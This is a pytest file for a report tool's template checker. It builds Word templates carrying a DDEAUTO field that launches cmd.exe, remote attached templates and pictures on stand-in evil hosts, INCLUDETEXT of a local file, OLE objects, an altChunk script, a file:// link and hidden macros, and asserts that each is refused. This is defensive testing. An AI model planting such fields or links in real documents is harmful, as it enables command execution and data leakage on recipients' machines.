"""Word templates that would carry something active or external into every report: an attached template on a
web server, a linked picture, fields that fetch or run (INCLUDETEXT, DDEAUTO...), altChunk, OLE objects, a
file:// link, macros. check-template refuses each, naming the paragraph; a render with such a set refuses and
no report carries any of it; a renamed .docm is one plain line."""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import pytest
from conftest import SAMPLE_CSV

from generator.jinja.sets import builtin_templates_dir

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "word/_rels/document.xml.rels"
REFUSED = "：报告不得含有会从别处取内容或会运行的内容，请在 Word 中删除后重新保存为 .docx"


def field(code: str) -> str:
    """A paragraph holding a complex field whose code is split over two runs, as Word often saves it."""
    half = len(code) // 2
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{code[:half]}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{code[half:]}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>旧值</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def relationship(rel_id: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rel_id}" Type="{REL}/{kind}" Target="{target}"{mode}/>'


def word_set(tmp_path: Path, first: str = "", after_first: str = "", rels: str = "", **parts: bytes) -> Path:
    """The built-in set with its report.docx changed: `first` becomes the first paragraph, `after_first` follows
    the (new) first paragraph at the body's level, `rels` are added to the document's relationships."""
    folder = tmp_path / "tpl"
    shutil.copytree(builtin_templates_dir() / "default", folder)
    with zipfile.ZipFile(folder / "report.docx") as package:
        files = {name: package.read(name) for name in package.namelist()}
    body = files["word/document.xml"].decode("utf-8").replace("<w:body>", "<w:body>" + first, 1)
    at = body.index("</w:p>") + len("</w:p>")
    files["word/document.xml"] = (body[:at] + after_first + body[at:]).encode("utf-8")
    files[RELS] = files[RELS].decode("utf-8").replace("</Relationships>", rels + "</Relationships>").encode("utf-8")
    files |= {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}
    with zipfile.ZipFile(folder / "report.docx", "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in files.items():
            package.writestr(name, data)
    return folder


A = "http://schemas.openxmlformats.org/drawingml/2006/main"
PIC = "http://schemas.openxmlformats.org/drawingml/2006/picture"
LINKED_IMAGE = (  # a picture Word fetches from the web each time the report is opened ("link to file")
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="99" name="标志" descr="标志"/>'
    f'<a:graphic xmlns:a="{A}"><a:graphicData uri="{PIC}"><pic:pic xmlns:pic="{PIC}"><pic:nvPicPr>'
    '<pic:cNvPr id="0" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdOut"/>'
    '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
    '<a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
    "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)


def reports_text(folder: Path) -> str:
    if not folder.exists():
        return ""
    texts = []
    for path in folder.rglob("*"):
        if path.suffix == ".docx":
            with zipfile.ZipFile(path) as package:
                texts += [package.read(n).decode("utf-8", "replace") for n in package.namelist()]
        elif path.is_file():
            texts.append(path.read_bytes().decode("utf-8", "replace"))
    return "".join(texts)


def test_an_external_image_and_an_includetext_field_are_refused_and_never_reach_a_report(run, tmp_path):
    folder = word_set(
        tmp_path,
        first=field(' INCLUDETEXT "C:\\\\机密\\\\名单.docx" \\* MERGEFORMAT ') + LINKED_IMAGE,
        rels=relationship("rIdOut", "image", "http://tracker.example/logo.png"),
    )
    checked = run("check-template", folder)
    assert checked.exit_code == 1
    assert (
        f'模板 report.docx 第 1 段：含有 INCLUDETEXT 域（INCLUDETEXT "C:\\\\机密\\\\名单.docx" \\* MERGEFORMAT）{REFUSED}'
        in (checked.output)
    )
    assert f"模板 report.docx 第 2 段：链接了外部图片（http://tracker.example/logo.png）{REFUSED}" in checked.output
    result = run(SAMPLE_CSV, "--template", folder, "-o", "out")
    assert result.exit_code == 3 and "INCLUDETEXT" in result.stderr
    assert "tracker.example" not in reports_text(tmp_path / "out") and "名单" not in reports_text(tmp_path / "out")


CASES = {
    "attached template": (
        {
            "word___rels__settings_dot_xml_dot_rels": (
                '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
                f'2006/relationships">{relationship("rId1", "attachedTemplate", "http://evil.example/t.dotm")}'
                "</Relationships>"
            ).encode()
        },
        "模板 report.docx 文档设置：附加了模板（attachedTemplate）（http://evil.example/t.dotm）",
    ),
    "DDEAUTO in a simple field": (
        {
            "first": '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ">'
            "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
        },
        '模板 report.docx 第 1 段：含有 DDEAUTO 域（DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"）',
    ),
    "INCLUDEPICTURE": (
        {"first": field(' INCLUDEPICTURE "http://evil.example/a.png" \\d ')},
        '模板 report.docx 第 1 段：含有 INCLUDEPICTURE 域（INCLUDEPICTURE "http://evil.example/a.png" \\d）',
    ),
    "LINK": (
        {"first": field(' LINK Excel.Sheet.12 "\\\\\\\\server\\\\share\\\\a.xlsx" "Sheet1!R1C1" \\a ')},
        "模板 report.docx 第 1 段：含有 LINK 域",
    ),
    "altChunk": (
        {
            "after_first": '<w:altChunk r:id="rIdChunk"/>',
            "rels": relationship("rIdChunk", "aFChunk", "chunk.html", external=False),
            "word__chunk_dot_html": b"<html><body><script>alert(1)</script></body></html>",
        },
        "模板 report.docx 第 1 段之后：嵌入了另一份文档（altChunk）",
    ),
    "OLE object": (
        {
            "first": '<w:p><w:r><w:object><o:OLEObject r:id="rIdOle" ProgID="Package"/></w:object></w:r></w:p>',
            "rels": relationship("rIdOle", "oleObject", "embeddings/oleObject1.bin", external=False),
            "word__embeddings__oleObject1_dot_bin": b"\xd0\xcf\x11\xe0 package",
        },
        "模板 report.docx 第 1 段：含有 OLE 对象（w:object）",
    ),
    "file:// link": (
        {"rels": relationship("rIdFile", "hyperlink", "file:///C:/Windows/win.ini")},
        "模板 report.docx 正文：含有指向本机或内网文件的链接（file:///C:/Windows/win.ini）",
    ),
}


@pytest.mark.parametrize("case", list(CASES))
def test_active_or_external_content_is_refused_by_paragraph(run, tmp_path, case):
    edits, expected = CASES[case]
    parts = {k: v for k, v in edits.items() if k not in ("first", "after_first", "rels")}
    folder = word_set(tmp_path, edits.get("first", ""), edits.get("after_first", ""), edits.get("rels", ""), **parts)
    checked = run("check-template", folder)
    assert checked.exit_code == 1 and expected in checked.output, checked.output
    assert "内部错误" not in checked.output
    result = run(SAMPLE_CSV, "--template", folder, "-o", "out")
    assert result.exit_code == 3 and expected.split("：", 1)[1][:8] in result.stderr, result.stderr
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").glob("*.docx"))


def test_an_ordinary_web_link_is_not_refused(run, tmp_path):
    folder = word_set(tmp_path, rels=relationship("rIdWeb", "hyperlink", "https://www.gov.cn/"))
    assert run("check-template", folder).exit_code == 0


def test_a_renamed_docm_is_one_plain_line(run, tmp_path):
    folder = word_set(tmp_path, word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0 macros")
    with zipfile.ZipFile(folder / "report.docx") as package:
        files = {name: package.read(name) for name in package.namelist()}
    files["[Content_Types].xml"] = files["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",  # what Word writes for a .docm
    )
    with zipfile.ZipFile(folder / "report.docx", "w") as package:
        for name, data in files.items():
            package.writestr(name, data)
    checked = run("check-template", folder)
    lines = checked.output.splitlines()
    assert checked.exit_code == 1 and lines[0] == (
        "模板 report.docx：含有宏（这是改了扩展名的启用宏的 .docm 文件）：报告模板不得含有宏，"
        "请在 Word 中另存为“Word 文档（*.docx）”"
    ), checked.output
    assert len(lines) == 2 and "内部错误" not in checked.output
    result = run(SAMPLE_CSV, "--template", folder, "-o", "out")
    assert result.exit_code == 3 and "含有宏" in result.stderr and "内部错误" not in result.stderr
